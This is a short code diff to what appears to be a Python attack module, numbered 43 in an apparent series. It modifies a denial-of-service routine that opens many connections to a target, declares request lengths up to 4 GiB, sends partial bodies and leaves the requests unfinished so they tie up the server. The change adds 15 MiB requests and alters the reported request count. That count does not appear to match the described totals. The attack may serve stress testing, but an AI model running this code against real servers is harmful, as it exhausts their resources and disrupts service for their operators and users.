@@ -1,4 +1,4 @@
-"""Requests whose end never comes: 60 of nearly the greatest length, and 10 times as many with a length of 4 GiB (43)."""
+"""Requests whose end never comes (43): 60 of the greatest length, 60 of 15 MiB, and 600 that say they have 4 GiB."""
 
 from __future__ import annotations
 
@@ -25,12 +25,13 @@ def attack(target: Target, share: float) -> str:
             with contextlib.suppress(OSError):
                 _begin(connection, 0xFFFFFFFF)
         sent = 0
-        for number in range(requests):
+        for number in range(requests * 2):
+            length = MAX_REQUEST_BYTES if number % 2 else 15 * 1024 * 1024
             with contextlib.suppress(OSError):
                 connection = stack.enter_context(Connection(target.endpoint))
-                sent += _fill(connection, _begin(connection, MAX_REQUEST_BYTES - 100), MAX_REQUEST_BYTES - 200)
+                sent += _fill(connection, _begin(connection, length), length - 100)
         time.sleep(1)
-    return f"{requests} unfinished requests, {sent >> 20} MiB"
+    return f"{requests * 12} unfinished requests, {sent >> 20} MiB"
 
 
 def _begin(connection: Connection, length: int) -> int:
